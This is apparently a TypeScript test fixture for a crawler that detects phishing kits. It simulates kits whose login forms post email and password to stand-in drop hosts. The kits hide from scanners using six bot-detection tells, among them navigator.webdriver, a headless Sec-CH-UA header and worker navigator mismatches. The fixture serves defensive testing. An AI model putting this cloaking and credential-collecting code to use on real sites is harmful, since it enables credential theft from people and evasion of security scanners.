// Phishing kits that cloak the way real ones do: each login page shows the kit (its script
// from a host of its own, a form that posts to a drop host) only to a browser it takes for
// a person, and "under construction" to anything it takes for a bot. One tell each, over
// https (client hints are only sent there): navigator.webdriver; HeadlessChrome (or no
// Google Chrome) in the Sec-CH-UA header, read by the server; a user agent whose OS
// navigator.platform or the client hints contradict; no plugins on a desktop Chrome; a
// worker whose navigator differs from the page's; geolocation already granted on a first
// visit. A crawler that passes records the kit's host pairs (login -> script host,
// script.src; login -> drop host, form.action), one that fails records the decoy's.
import { js, page } from '../respond.js';
import type { Handler, Route, Scenario } from '../types.js';

export interface CloakingKit {
  /** The tell the kit looks for. */
  tell: string;
  url: string;
  scriptHost: string;
  dropHost: string;
}

const DECOY = '<h1>Site under construction</h1><p>Please come back later.</p>';

/** The kit's page as a person sees it: the login form that posts to the drop host, and the kit's script. */
function kitMarkup(k: CloakingKit): string {
  return `<h1>Sign in to your account</h1>
<form id="login" method="post" action="https://${k.dropHost}/collect.php">
  <label>Email <input name="email" type="email"></label>
  <label>Password <input name="password" type="password"></label>
  <button>Sign in</button>
</form>`;
}

/** A page that decides in the browser: `isBot` is a script expression (it may await). */
function clientSideKit(k: CloakingKit, isBot: string, helpers = ''): Handler {
  return page(
    'Sign in',
    `<main id="main">${DECOY}</main>
<script>
${helpers}
(async () => {
  if (await (async () => { ${isBot} })()) return;
  document.getElementById('main').innerHTML = ${JSON.stringify(kitMarkup(k))};
  const s = document.createElement('script');
  s.src = 'https://${k.scriptHost}/kit.js';
  document.head.appendChild(s);
})();
</script>`,
  );
}

function kit(tell: string, name: string): CloakingKit {
  return {
    tell,
    url: `https://secure-login.${name}.test/signin`,
    scriptHost: `cdn.${name}-assets.test`,
    dropHost: `drop.${name}-collect.test`,
  };
}

export const CLOAKING_KITS = {
  webdriver: kit('navigator.webdriver', 'wd-kit'),
  secChUa: kit('HeadlessChrome in Sec-CH-UA (server side)', 'chua-kit'),
  platform: kit('user agent and platform disagree', 'platform-kit'),
  plugins: kit('no plugins on a desktop Chrome', 'plugins-kit'),
  worker: kit("a worker's navigator differs from the page's", 'worker-kit'),
  geolocation: kit('geolocation granted on a first visit', 'geo-kit'),
} as const satisfies Record<string, CloakingKit>;

const PLATFORM_OF_UA = `function platformFits(ua, platform, hints) {
  if (/Android/.test(ua)) return /^Linux (arm|aarch64)/.test(platform) && (!hints || hints.platform === 'Android');
  if (/Windows/.test(ua)) return platform === 'Win32' && (!hints || hints.platform === 'Windows');
  if (/Macintosh/.test(ua)) return platform === 'MacIntel' && (!hints || hints.platform === 'macOS');
  if (/iPhone|iPad/.test(ua)) return /^(iPhone|iPad)/.test(platform) && !hints;
  return /^Linux/.test(platform);
}`;

const WORKER_NAVIGATOR =
  'postMessage({ ua: navigator.userAgent, platform: navigator.platform, languages: navigator.languages, cores: navigator.hardwareConcurrency, brands: navigator.userAgentData && navigator.userAgentData.brands.map((b) => b.brand) });';

/** The server-side kit: Sec-CH-UA must name Google Chrome and no headless browser. */
const secChUaKit: Handler = (req, res) => {
  const brands = String(req.headers['sec-ch-ua'] ?? '');
  const person = brands.includes('"Google Chrome"') && !/headless/i.test(brands);
  const k = CLOAKING_KITS.secChUa;
  page('Sign in', person ? `${kitMarkup(k)}<script src="https://${k.scriptHost}/kit.js"></script>` : DECOY)(req, res);
};

const kitRoutes = (k: CloakingKit, handler: Handler, extra: Route[] = []): Route[] => [
  { host: new URL(k.url).hostname, path: new URL(k.url).pathname, handler },
  // The kit's own script: it marks the form as armed (what matters here is that it was loaded, from its host).
  {
    host: k.scriptHost,
    path: '/kit.js',
    handler: js("document.getElementById('login')?.setAttribute('data-armed', '1');"),
  },
  ...extra,
];

export const cloakingKits: Scenario[] = [
  {
    name: 'cloak-webdriver',
    seed: CLOAKING_KITS.webdriver.url,
    routes: kitRoutes(CLOAKING_KITS.webdriver, clientSideKit(CLOAKING_KITS.webdriver, 'return navigator.webdriver;')),
  },
  { name: 'cloak-sec-ch-ua', seed: CLOAKING_KITS.secChUa.url, routes: kitRoutes(CLOAKING_KITS.secChUa, secChUaKit) },
  {
    name: 'cloak-platform',
    seed: CLOAKING_KITS.platform.url,
    routes: kitRoutes(
      CLOAKING_KITS.platform,
      clientSideKit(
        CLOAKING_KITS.platform,
        'return !platformFits(navigator.userAgent, navigator.platform, navigator.userAgentData);',
        PLATFORM_OF_UA,
      ),
    ),
  },
  {
    name: 'cloak-plugins',
    seed: CLOAKING_KITS.plugins.url,
    routes: kitRoutes(
      CLOAKING_KITS.plugins,
      clientSideKit(
        CLOAKING_KITS.plugins,
        'return !/Android/.test(navigator.userAgent) && navigator.plugins.length === 0;',
      ),
    ),
  },
  {
    name: 'cloak-worker',
    seed: CLOAKING_KITS.worker.url,
    routes: kitRoutes(
      CLOAKING_KITS.worker,
      clientSideKit(
        CLOAKING_KITS.worker,
        `const w = await new Promise((resolve) => { const worker = new Worker('/check.js'); worker.onmessage = (e) => resolve(e.data); });
  const here = { ua: navigator.userAgent, platform: navigator.platform, languages: navigator.languages, cores: navigator.hardwareConcurrency, brands: navigator.userAgentData && navigator.userAgentData.brands.map((b) => b.brand) };
  return JSON.stringify(w) !== JSON.stringify(here);`,
      ),
      [{ host: new URL(CLOAKING_KITS.worker.url).hostname, path: '/check.js', handler: js(WORKER_NAVIGATOR) }],
    ),
  },
  {
    name: 'cloak-geolocation',
    seed: CLOAKING_KITS.geolocation.url,
    routes: kitRoutes(
      CLOAKING_KITS.geolocation,
      clientSideKit(
        CLOAKING_KITS.geolocation,
        "return (await navigator.permissions.query({ name: 'geolocation' })).state === 'granted';",
      ),
    ),
  },
];
